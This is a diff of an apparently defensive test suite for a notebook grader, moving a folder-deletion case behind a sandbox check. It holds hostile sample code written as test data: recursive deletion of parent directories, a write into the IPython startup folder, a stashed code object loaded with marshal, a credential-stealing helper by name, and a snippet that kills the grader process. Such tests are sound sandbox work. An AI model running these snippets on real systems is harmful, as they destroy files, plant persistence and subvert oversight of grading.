@@ -126,9 +126,6 @@ def _cases(c: dict, tmp: Path, out_csv: Path) -> dict[str, tuple[object, int | N
             "            (d / n).write_text(json.dumps({'elapsed_s': 'soon', 'chapter': 7, "
             "'values': {'answer_7_1': {'state': 'value', 'value': 10**400}}}))\n"
             "        except OSError:\n            pass")), 4),
-        "mallory/deletes_folders.ipynb": (H.add(H.honest(s["mallory"]), (
-            "import pathlib, shutil\nfor d in pathlib.Path.cwd().parents[:3]:\n"
-            "    shutil.rmtree(d, ignore_errors=True)"), at=2), None),
         "niaj/thief.ipynb": (H.add(H.honest(s["niaj"]), H.connection_thief(), at=2), 4),
         "niaj/startup_file.ipynb": (H.add(s["niaj"], (
             "import pathlib\nd = pathlib.Path.home() / '.ipython/profile_default/startup'\n"
@@ -187,6 +184,10 @@ def _cases(c: dict, tmp: Path, out_csv: Path) -> dict[str, tuple[object, int | N
             at=2), "import marshal, types\ndef kv_bytes_per_token(*a):\n"
             "    code = marshal.loads(open('/tmp/stash', 'rb').read())\n"
             "    return types.FunctionType(code, {})(*a)"), 2)
+    if LEVEL == "bubblewrap":  # without it, a kernel running at the same time would be hit too
+        cases["mallory/deletes_folders.ipynb"] = (H.add(H.honest(s["mallory"]), (
+            "import pathlib, shutil\nfor d in pathlib.Path.cwd().parents[:3]:\n"
+            "    shutil.rmtree(d, ignore_errors=True)"), at=2), None)
     if SANDBOXED:
         cases["mallory/kills_the_grader.ipynb"] = (H.add(H.honest(s["mallory"]), (
             "import os, signal\nfor pid in (os.getppid(), int(open(f'/proc/{os.getppid()}/stat')"
